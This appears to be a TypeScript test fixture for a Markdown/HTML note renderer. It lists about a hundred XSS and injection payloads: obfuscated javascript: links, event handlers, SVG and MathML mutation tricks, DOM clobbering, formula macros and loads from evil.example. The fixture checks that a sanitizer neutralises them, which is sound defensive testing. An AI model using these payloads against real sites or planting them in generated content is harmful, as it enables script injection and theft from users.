/** A note that tries to do something, and the words in it that have to stay readable. */
export interface HostileNote {
  readonly name: string;
  readonly text: string;
  /** Shown on the page whatever becomes of the rest. */
  readonly stays: readonly string[];
}

const around = (snippet: string) => `前文\n\n${snippet}\n\n后文`;

function note(name: string, snippet: string, ...stays: readonly string[]): HostileNote {
  return { name, text: around(snippet), stays: ['前文', '后文', ...stays] };
}

/**
 * Notes that must not run, load or take over anything. Handlers set `window.pwned`, so that a
 * browser can tell as well.
 */
export const hostileNotes: readonly HostileNote[] = [
  note('a script', '<script>window.pwned = 1</script>'),
  note('a script in a line', '行内<script>window.pwned = 1</script>之后', '行内', '之后'),
  note('a script in capitals', '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
  note(
    'an unclosed script',
    '<script>window.pwned = 1'.replace('<script>', '<script >') + '</script>',
  ),
  note('a script of a blank name', '<script/x>window.pwned = 1</script>'),
  note('a script within a script', '<scr<script>ipt>window.pwned = 1</scr</script>ipt>'),
  note('a module', '<script type="module">import "https://evil.example/x.js"</script>'),
  note('an event handler', '<img src="x.png" onerror="window.pwned = 1" alt="图">'),
  note('a handler without quotes', '<img src=x onerror=window.pwned=1>'),
  note('a handler behind a slash', '<img/src="x"/onerror="window.pwned=1">'),
  note('a handler in capitals', '<p ONCLICK="window.pwned = 1">段落</p>', '段落'),
  note(
    'a handler on an annotation',
    '<font color="red" onmouseover="window.pwned=1">红</font>',
    '红',
  ),
  note(
    'a handler on a coloured box',
    '<div style="color:red" onclick="window.pwned=1">盒</div>',
    '盒',
  ),
  note('a handler behind a line end', '<b\nonclick="window.pwned=1">粗</b>', '粗'),
  note(
    'a toggled details',
    '<details open ontoggle="window.pwned=1"><summary>题</summary>文</details>',
    '题',
    '文',
  ),
  note('autofocus', '<input autofocus onfocus="window.pwned=1">文字', '文字'),
  note('an animation', '<p style="animation:x" onanimationstart="window.pwned=1">动</p>', '动'),
  note('a quote in an attribute', '<img alt="a\'>" title=\'"><script>window.pwned=1</script>\'>'),
  note('a link that runs', '[点击](javascript:window.pwned=1)', '点击'),
  note('a link in capitals', '[点击](JaVaScRiPt:window.pwned=1)', '点击'),
  note('a link of entities', '[点击](&#106;avascript&colon;window.pwned=1)', '点击'),
  note(
    'a link of hexadecimal entities',
    '<a href="&#x6A;&#x61;vascript:window.pwned=1">点击</a>',
    '点击',
  ),
  note('a link with a tab', '<a href="java&Tab;script:window.pwned=1">点击</a>', '点击'),
  note('a link with a line end', '<a href="java\nscript:window.pwned=1">点击</a>', '点击'),
  note('a link behind blanks', '<a href=" \u0001 javascript:window.pwned=1">点击</a>', '点击'),
  note(
    'a link with an invisible character',
    '<a href="java\u200bscript:window.pwned=1">点击</a>',
    '点击',
  ),
  note('a link encoded twice', '<a href="javascript&amp;colon;window.pwned=1">点击</a>', '点击'),
  note('an autolink that runs', '<javascript:window.pwned=1>'),
  note('a reference that runs', '[点击][x]\n\n[x]: javascript:window.pwned=1', '点击'),
  note('a link of VBScript', '<a href="vbscript:msgbox(1)">点击</a>', '点击'),
  note(
    'a link to a page of data',
    '<a href="data:text/html,<script>window.pwned=1</script>">点击</a>',
    '点击',
  ),
  note(
    'a link to base64 data',
    '[点击](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '点击',
  ),
  note('a link to a file', '<a href="file:///etc/passwd">点击</a>', '点击'),
  note('a link to a command', '<a href="command:workbench.action.closeWindow">点击</a>', '点击'),
  note('a link to the view source', '<a href="view-source:javascript:1">点击</a>', '点击'),
  note('an image that runs', '![图](javascript:window.pwned=1)'),
  note(
    'an image of SVG data',
    '<img src="data:image/svg+xml,<svg onload=\'window.pwned=1\'>" alt="图">',
  ),
  note('an image of a server share', '<img src="\\\\evil.example\\share\\x.png" alt="图">'),
  note('an image set', '<img srcset="https://evil.example/x.png 1x" src="a.png" alt="图">'),
  note(
    'an SVG',
    '<svg onload="window.pwned=1"><script>window.pwned=1</script><text>图中文字</text></svg>',
  ),
  note(
    'an SVG link',
    '<svg><a xlink:href="javascript:window.pwned=1"><text>图中</text></a></svg>',
    '图中',
  ),
  note(
    'foreign content',
    '<svg><foreignObject><img src=x onerror=window.pwned=1></foreignObject></svg>',
  ),
  note(
    'MathML with an action',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:window.pwned=1">式</maction></math>',
    '式',
  ),
  note(
    'MathML that mutates',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  ),
  note(
    'a form',
    '<form action="https://evil.example"><input name="x" value="秘密"><button>提交</button></form>',
    '提交',
  ),
  note(
    'a button with an action',
    '<button formaction="javascript:window.pwned=1">按钮</button>',
    '按钮',
  ),
  note('an input of type image', '<input type="image" src="x" onerror="window.pwned=1">'),
  note('a base', '<base href="https://evil.example/">[相对](a.md)', '相对'),
  note('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  note('a policy', '<meta http-equiv="Content-Security-Policy" content="default-src *">'),
  note('a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  note(
    'a style element',
    '<style>body { display: none } @import "https://evil.example/x.css";</style>',
  ),
  note('a style that loads', '<p style="background:url(https://evil.example/x.png)">段</p>', '段'),
  note(
    'a style that covers the page',
    '<div style="position:fixed;inset:0;z-index:9999">盖住</div>',
    '盖住',
  ),
  note(
    'a colour that loads',
    '<font color="red;background:url(https://evil.example/)">色</font>',
    '色',
  ),
  note(
    'a colour that ends the attribute',
    '<font color=\'red"onclick="window.pwned=1\'>色</font>',
    '色',
  ),
  note(
    'a colour of a variable',
    '<span style="color:var(--x);behavior:url(x.htc)">色</span>',
    '色',
  ),
  note('a frame', '<iframe src="javascript:window.pwned=1"></iframe>'),
  note('a frame with a document', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'),
  note(
    'an object',
    '<object data="javascript:window.pwned=1"><embed src="javascript:window.pwned=1"></object>',
  ),
  note(
    'a video',
    '<video src="x" onerror="window.pwned=1"><source onerror="window.pwned=1"></video>',
  ),
  note('an audio', '<audio autoplay src="https://evil.example/x.mp3"></audio>'),
  note('a template', '<template><img src=x onerror=window.pwned=1></template>'),
  note(
    'a noscript',
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  ),
  note(
    'a textarea',
    '<textarea><img title="</textarea><img src=x onerror=window.pwned=1>"></textarea>',
  ),
  note('a title', '<title><img title="</title><img src=x onerror=window.pwned=1>"></title>'),
  note('an xmp', '<xmp><img title="</xmp><img src=x onerror=window.pwned=1>"></xmp>'),
  note('a plaintext', '<plaintext>原文', '原文'),
  note('a select', '<select><option>选项</option><script>window.pwned=1</script></select>', '选项'),
  note('a marquee', '<marquee onstart="window.pwned=1">滚动</marquee>', '滚动'),
  note('a custom element', '<x-evil onconnected="window.pwned=1">自定</x-evil>', '自定'),
  note(
    'a body',
    '<body onload="window.pwned=1" background="javascript:window.pwned=1">身体</body>',
    '身体',
  ),
  note(
    'a frameset',
    '<frameset onload="window.pwned=1"><frame src="javascript:window.pwned=1"></frameset>',
  ),
  note(
    'names that clobber',
    '<a id="zhupi-root" name="body">甲</a><img name="getElementById" id="cookie" src="x.png" alt="乙">',
    '甲',
  ),
  note('a comment that ends early', '<!--> <img src=x onerror=window.pwned=1> -->'),
  note('a processing instruction', '<?xml-stylesheet href="javascript:window.pwned=1"?>'),
  note('CDATA', '<![CDATA[<img src=x onerror=window.pwned=1>]]>'),
  note('unclosed tags', '<div><p><b><i>未闭合', '未闭合'),
  note('an unclosed attribute', '文字 <img src="x onerror=window.pwned=1', '文字'),
  note('closing what others opened', '</div></main></body></html>文字', '文字'),
  note(
    'a table that fosters',
    '<table><a href="javascript:window.pwned=1">表<script>window.pwned=1</script></a></table>',
    '表',
  ),
  note('a formula with a link', '$\\href{javascript:window.pwned=1}{x}$'),
  note('a formula with an address', '$$\\url{javascript:window.pwned=1}$$'),
  note('a formula with an image', '$\\includegraphics{https://evil.example/x.png}$'),
  note(
    'a formula with HTML',
    '$\\htmlStyle{position:fixed}{x}$ $\\htmlData{onclick=window.pwned=1}{x}$ $\\htmlId{zhupi-root}{x}$',
  ),
  note(
    'a formula of tags',
    '$<img src=x onerror=window.pwned=1>$ $$</span><script>window.pwned=1</script>$$',
  ),
  note('a formula that grows', '$\\def\\a{\\a\\a}\\a$'),
  note(
    'a fence of tags',
    '```html"><img src=x onerror=window.pwned=1>\n<script>window.pwned=1</script>\n```',
  ),
  note(
    'a fence with a title of tags',
    '```py title="<img src=x onerror=window.pwned=1>"\nx = 1\n```',
    'x = 1',
  ),
  note('a callout of tags', '> [!NOTE] <img src=x onerror=window.pwned=1>\n> 内容', '内容'),
  note('a heading of tags', '# 标题<img src=x onerror=window.pwned=1>\n\n[toc]', '标题'),
  note(
    'a footnote of tags',
    '注[^<b onclick=x>]\n\n[^<b onclick=x>]: <img src=x onerror=window.pwned=1>脚注',
    '注',
  ),
  note('a link title of tags', '[文](a.md "\\"><img src=x onerror=window.pwned=1>")', '文'),
  note('an image text of tags', '![\\"><img src=x onerror=window.pwned=1>](a.png)'),
  {
    name: 'a front matter that is code',
    text: '---js\n{ title: (window.pwned = 1, process.exit(1)) }\n---\n\n正文',
    stays: ['正文'],
  },
  {
    name: 'a front matter of tags',
    text: '---\ntitle: <img src=x onerror=window.pwned=1>\ntags: ["</li><script>window.pwned=1</script>"]\ndate: "<b onclick=window.pwned=1>"\n---\n\n正文',
    stays: ['正文'],
  },
  {
    name: 'a front matter of TOML tags',
    text: '+++\ntitle = "</code><script>window.pwned=1</script>"\n+++\n\n正文',
    stays: ['正文'],
  },
];
